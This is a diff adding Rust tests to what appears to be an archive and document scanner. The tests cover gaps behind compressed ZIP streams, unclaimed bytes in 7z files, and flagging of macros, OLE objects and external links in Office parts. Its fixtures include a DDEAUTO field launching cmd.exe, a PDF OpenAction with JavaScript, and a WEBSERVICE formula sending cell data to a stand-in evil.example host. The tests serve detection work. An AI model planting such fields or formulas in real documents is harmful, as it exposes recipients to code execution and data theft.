@@ -114,6 +114,60 @@ async fn what_cannot_be_read_is_a_gap_and_the_rest_comes_out() {
     assert_eq!(gap, "trailing");
 }
 
+/// `some text some text some text ` by each method of ZIP that is unpacked, as Python, `zstd` and `xz` pack it.
+const TEXT: &[u8] = b"some text some text some text ";
+const PACKED: [(u16, &[u8]); 5] = [
+    (8, b"\x2b\xce\xcf\x4d\x55\x28\x49\xad\x28\x51\x28\xc6\xc2\x02\x00"),
+    (
+        12,
+        b"BZh91AY&SY\x89\xbb\x59\xbc\x00\x00\x0a\x11\x80\x40\x00\x02\x02\x8c\x40\x20\x00\x22\xbf\xd5\x13\x68\x21\x80\x8b\x7d\x6c\x44\x6a\x9a\xe1\x77\x24\x53\x85\x09\x08\x9b\xb5\x9b\xc0",
+    ),
+    (
+        14,
+        b"\x09\x04\x05\x00\x5d\x00\x00\x80\x00\x00\x39\x9b\xc9\xf2\xe7\x50\xb8\xc5\xe2\x5c\xb5\x82\x35\x75\x7d\x7b\xff\xff\xfb\x2c\x40\x00",
+    ),
+    (93, b"\x28\xb5\x2f\xfd\x04\x58\x85\x00\x00Psome text \x01\x00\xa5\x0b\x12\xbb\x36\xec\x7d"),
+    (
+        95,
+        b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x02\x00\x21\x01\x16\x00\x00\x00\x74\x2f\xe5\xa3\xe0\x00\x1d\x00\x11\x5d\x00\x39\x9b\xc9\xf2\xe7\x50\xb8\xc5\xe2\x5c\xb5\x82\x35\x6b\x39\x00\x00\x00\x00\x00\x00\xe2\x62\xad\x1a\x10\xf6\x65\xde\x00\x01\x2d\x1e\xa7\xd2\xa3\xfa\x1f\xb6\xf3\x7d\x01\x00\x00\x00\x00\x04YZ",
+    ),
+];
+
+#[tokio::test]
+async fn bytes_behind_a_compressed_stream_are_a_gap() {
+    let pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n";
+    let descriptor = |packed: &[u8]| {
+        let [crc, packed, size] = [crc32fast::hash(TEXT), packed.len() as u32, TEXT.len() as u32];
+        [&b"PK\x07\x08"[..], &crc.to_le_bytes(), &packed.to_le_bytes(), &size.to_le_bytes()].concat()
+    };
+    for (method, packed) in PACKED {
+        let entry = Part::stored("b", b"MZ and more");
+        let local = zip_of(&[entry]);
+        let local = &local[..local.windows(4).position(|w| w == b"PK\x01\x02").unwrap()];
+        for (behind, streamed) in [
+            (vec![], false),
+            (pdf.to_vec(), false),
+            (vec![0], false),
+            // For who reads from front to back: a true descriptor, and a member of its own.
+            ([descriptor(packed).as_slice(), local].concat(), true),
+        ] {
+            let part = Part::stored("a", TEXT).with(|p| {
+                (p.packed, p.method, p.streamed) = ([packed, &behind].concat(), method, streamed);
+            });
+            let zip = zip_of(&[part]);
+            let (Members { members, summary }, out) = take("application/zip", &zip, &LIMITS).await.unwrap();
+            let found: Vec<_> = summary.findings.iter().map(|f| f.code.as_str()).collect();
+            let expected = match (behind.is_empty(), streamed) {
+                (true, _) => (vec![], ""),
+                (false, false) => (vec!["structure.gap"], "gap"),
+                (false, true) => (vec!["structure.gap"], "hidden"),
+            };
+            assert_eq!((found, code(&summary.coverage)), expected, "method {method}, {behind:x?}");
+            assert!(members.len() == 1 && out == TEXT, "method {method}");
+        }
+    }
+}
+
 #[tokio::test]
 async fn bombs_stop_at_each_limit() {
     let ratio = MembersRequest { max_bytes: u64::MAX, ..LIMITS };
@@ -386,5 +440,183 @@ async fn methods_that_clamd_passes_over() {
         let part = Part::stored("a", &content).with(|p| (p.packed, p.method) = (packed, method));
         let (members, gap) = taken("application/zip", &zip_of(&[part]), &LIMITS).await;
         assert!(members == [whole("a", &content)] && gap.is_empty(), "{method}: {gap}");
+    }
+}
+
+/// Bytes of a 7z archive that no stream claims: in front of the first, behind the last, in front of the list where that is
+/// packed too.
+#[tokio::test]
+async fn bytes_that_no_stream_of_seven_claims_are_a_gap() {
+    const SEVEN: &str = "application/x-7z-compressed";
+    let rar = b"Rar!\x1a\x07\x01\0 and so on";
+    let plain = disc::seven(&[0], &[("a.txt", b"some text")]);
+    let (body, list) = (plain[32..41].to_vec(), plain[41..].to_vec());
+    let archive = |body: &[u8], list: &[u8]| {
+        let mut start = (body.len() as u64).to_le_bytes().to_vec();
+        start.extend((list.len() as u64).to_le_bytes());
+        start.extend(crc32fast::hash(list).to_le_bytes());
+        let crc = crc32fast::hash(&start).to_le_bytes();
+        [&plain[..8], &crc, &start, body, list].concat()
+    };
+    // Where the packed streams begin is the fourth byte of the list.
+    let from = |place: usize| {
+        let mut list = list.clone();
+        list[3] = u8::try_from(place).unwrap();
+        list
+    };
+    // A list that is a stream of its own, as it is, at this place.
+    let packed = |place: usize, length: usize| {
+        let [place, length] = [place, length].map(|n| u8::try_from(n).unwrap());
+        vec![0x17, 6, place, 1, 9, length, 0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, length, 0, 0]
+    };
+    let n = rar.len();
+    let cases = [
+        ("all claimed", archive(&body, &list), ""),
+        ("in front", archive(&[&rar[..], &body].concat(), &from(n)), "gap"),
+        ("behind", archive(&[&body[..], rar].concat(), &list), "gap"),
+        ("zeros", archive(&[&body[..], &[0; 9]].concat(), &list), "gap"),
+        ("a packed list", archive(&[&body[..], &list].concat(), &packed(9, list.len())), ""),
+        ("in front of it", archive(&[&body[..], rar, &list].concat(), &packed(9 + n, list.len())), "gap"),
+        ("behind it", archive(&[&body[..], &list, rar].concat(), &packed(9, list.len())), "gap"),
+        ("shared with it", archive(&list, &packed(0, list.len())), "overlap"),
+    ];
+    for (what, file, expected) in cases {
+        let (Members { summary, .. }, _) = take(SEVEN, &file, &LIMITS).await.unwrap();
+        let found: Vec<_> =
+            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
+        let wanted = if expected.is_empty() { vec![] } else { vec![expected] };
+        assert_eq!(found, wanted, "{what}: {summary:?}");
+        assert!(expected.is_empty() || !summary.coverage.is_complete(), "{what}: {summary:?}");
+    }
+}
+
+/// What parts of an office document are called is free: content types, relations and the parts themselves tell what
+/// they are.
+#[tokio::test]
+async fn parts_of_documents_are_judged_by_what_they_are() {
+    const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    let types = |more: &str| {
+        format!(
+            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/>{more}</Types>"
+        )
+    };
+    let related = |kind: &str, target: &str| {
+        format!(
+            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"{kind}\" Target=\"{target}\"/></Relationships>"
+        )
+    };
+    let word = |body: &str| {
+        format!(
+            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">{body}</w:document>"
+        )
+    };
+    let sheet = |root: &str, body: &str| {
+        format!("<{root} xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{body}</{root}>")
+    };
+    let field = word("<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"</w:instrText>");
+    let wide: Vec<u8> = field.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let web = sheet(
+        "connections",
+        "<connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/></connection>",
+    );
+    let service = sheet("worksheet", "<f>_xlfn.WEB<![CDATA[SERVICE]]>(\"http://evil.example/\"&amp;A1)</f>");
+    let macros = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
+    let over = |kind: &str| types(&format!("<Override PartName=\"/xl/a/s.xml\" ContentType=\"{kind}\"/>"));
+    let xlm = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
+    let cases: Vec<(&str, &str, Vec<u8>, &[&str])> = vec![
+        ("a letter", "word/document.xml", word("<w:t>WEBSERVICE( and DDEAUTO</w:t>").into(), &[]),
+        ("a picture", "word/media/image1.png", b"\x89PNG and so on".to_vec(), &[]),
+        (
+            "a table",
+            "xl/worksheets/sheet1.xml",
+            sheet("worksheet", "<f>SUM(A1:A3)</f><f>MYIMAGE(1)</f>").into(),
+            &[],
+        ),
+        ("a field in a part of another name", "word/document.dat", field.clone().into(), &["external"]),
+        ("in two bytes a character, without a mark", "word/document.dat", wide, &["external"]),
+        (
+            "a field in a part without an extension",
+            "word/d",
+            [b"\xef\xbb\xbf\n".to_vec(), field.into()].concat(),
+            &["external"],
+        ),
+        ("a query", "xl/connections.xml", web.clone().into(), &["external"]),
+        ("a query in a part of another name", "xl/c.bin", web.into(), &["external"]),
+        ("a formula that fetches", "xl/s.bin", service.into(), &["external"]),
+        ("a macro sheet by its root", "xl/a/s.xml", macros.into(), &["macro"]),
+        (
+            "a macro sheet by its type",
+            "[Content_Types].xml",
+            over("application/vnd.ms-excel.macrosheet+xml").into(),
+            &["macro"],
+        ),
+        (
+            "macros by their type",
+            "[Content_Types].xml",
+            over("application/vnd.ms-office.vbaProject").into(),
+            &["macro"],
+        ),
+        (
+            "a macro sheet by its relation",
+            "xl/_rels/workbook.xml.rels",
+            related(xlm, "a/s.xml").into(),
+            &["macro"],
+        ),
+        (
+            "macros by their relation",
+            "word/_rels/document.xml.rels",
+            related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.dat").into(),
+            &["macro"],
+        ),
+        (
+            "an object by its relation",
+            "xl/_rels/s.xml.rels",
+            related(&format!("{RELATIONS}/oleObject"), "/a").into(),
+            &["object"],
+        ),
+        (
+            "a package by its relation",
+            "xl/_rels/s.xml.rels",
+            related(&format!("{RELATIONS}/package"), "/a").into(),
+            &["object"],
+        ),
+        (
+            "a control by its relation",
+            "xl/_rels/s.xml.rels",
+            related(&format!("{RELATIONS}/control"), "/a").into(),
+            &["object"],
+        ),
+        (
+            "a chunk of html",
+            "word/_rels/document.xml.rels",
+            related(&format!("{RELATIONS}/aFChunk"), "/a").into(),
+            &["object"],
+        ),
+        (
+            "a template",
+            "word/_rels/settings.xml.rels",
+            related(&format!("{RELATIONS}/attachedTemplate"), "a.dotm").into(),
+            &["external"],
+        ),
+        (
+            "styles",
+            "word/_rels/document.xml.rels",
+            related(&format!("{RELATIONS}/styles"), "styles.xml").into(),
+            &[],
+        ),
+    ];
+    for (what, name, content, expected) in cases {
+        let zip = match name {
+            "[Content_Types].xml" => Zip::default().deflated(name, &content),
+            _ => {
+                Zip::default().deflated("[Content_Types].xml", types("").as_bytes()).deflated(name, &content)
+            }
+        };
+        let zip = zip.stored("word/x.txt", b"x").finish();
+        let (Members { summary, .. }, _) = take("application/zip", &zip, &LIMITS).await.unwrap();
+        let found: Vec<_> =
+            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
+        assert_eq!(found, expected, "{what}: {summary:?}");
+        assert!(summary.coverage.is_complete(), "{what}");
     }
 }
